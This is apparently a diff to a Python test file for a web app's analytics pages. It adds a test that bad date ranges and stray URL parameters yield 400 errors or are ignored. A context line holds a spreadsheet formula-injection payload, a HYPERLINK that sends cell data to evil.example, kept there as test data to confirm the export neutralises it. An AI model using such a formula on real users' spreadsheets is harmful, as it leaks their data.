@@ -152,3 +152,24 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_text(app, client, session, d
     reps = list(csv.reader(io.StringIO(client.get("/analytics/reps.csv").data.decode())))
     assert """'=HYPERLINK("http://evil.example/?"&A1,"Rep One")""" in {r[0] for r in reps[1:]}
     assert all(not cell.startswith(("=", "+", "@")) for row in reps for cell in row)
+
+
+def test_a_period_the_page_cannot_read_is_shown_again_with_its_error_not_a_500(app, client, session, dataset):
+    """"to" = 9999-12-31 overflowed the period's end (the day after) into a 500, as did a "table" parameter, which
+    the CSV links passed on to url_for beside their own. A bad date was a bare 400 page that lost what was typed."""
+    _login(app, client, "boss@x.pl", "boss-password", "manager", session)
+    for query in ("to=9999-12-31", "from=0001-01-01&to=9999-12-31", "bucket=day&to=9999-12-31"):
+        assert client.get(f"/analytics?{query}").status_code == 400, query
+        assert client.get(f"/analytics/sources.csv?{query}").status_code == 400, query
+    page = client.get("/analytics?from=2026-11-01&to=9999-12-31")
+    html = page.data.decode()
+    assert 'name="from" value="2026-11-01"' in html and 'name="to" value="9999-12-31" aria-invalid="true"' in html
+    assert 'data-field="to"' in html and "To must be a date before 9999-12-31" in html
+    # The figures and the CSV links keep the part that could be read.
+    assert "/analytics/sources.csv?from=2026-11-01&amp;bucket=week" in html
+    backwards = client.get("/analytics?from=2026-11-30&to=2026-11-01").data.decode()
+    assert "To must not be before From" in backwards
+    for extra in ("table=x", "_external=1", "_anchor=x", "_method=POST", "bucket=month&table=reps"):
+        page = client.get(f"/analytics?{extra}")
+        assert page.status_code == 200, extra
+        assert "/analytics/sources.csv?bucket=" in page.data.decode(), extra
